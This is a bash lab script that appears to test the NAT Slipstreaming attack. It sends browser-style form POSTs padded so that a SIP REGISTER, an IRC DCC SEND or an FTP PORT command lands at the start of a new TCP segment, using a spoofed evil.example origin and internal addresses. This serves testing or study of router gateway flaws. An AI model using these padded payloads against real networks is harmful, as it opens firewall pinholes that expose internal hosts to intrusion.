#!/bin/bash
. "$(dirname "$0")/../../lab.sh"
lab
for port in 21 5060 6667; do
    spawn server python3 "$TOOLS/http_server.py" $port
    wait_port server $port
done
capture
size() { printf %b "$1" | wc -c; }
# post PORT TEXT: the POST of a form whose field is filled up so that this text begins the second full segment.
post() {
    local head body text end=1448 boundary=----WebKitFormBoundary7MA4YWxkTrZu0gW
    head="POST / HTTP/1.1\r\nHost: $WEB:$1\r\nContent-Length: 0000\r\nOrigin: http://evil.example\r\n\
Content-Type: multipart/form-data; boundary=$boundary\r\nUser-Agent: Mozilla/5.0 (X11; Linux x86_64) \
AppleWebKit/537.36 (KHTML, like Gecko) Chrome/86.0.4240.75 Safari/537.36\r\nConnection: close\r\n\r\n"
    body="--$boundary\r\nContent-Disposition: form-data; name=\"field\"\r\n\r\n"
    text="$2\r\n--$boundary--\r\n"
    body+=$(printf "%0$((end - $(size "$head$body")))d" 0)
    on client python3 "$TOOLS/send.py" $WEB $1 "${head/0000/$(size "$body$text")}$body" "$text"
}
post 5060 'REGISTER sip:evil.example;transport=TCP SIP/2.0\r\nContact: <sip:a@192.168.1.5:5000>\r\nCSeq: 1 REGISTER\r\nContent-Length: 0\r\n\r\n'
post 6667 'PRIVMSG friend :\x01DCC SEND photo.jpg 3232235781 5000 1024\x01\r\n'
post 21 'PORT 192,168,1,5,19,136\r\n'
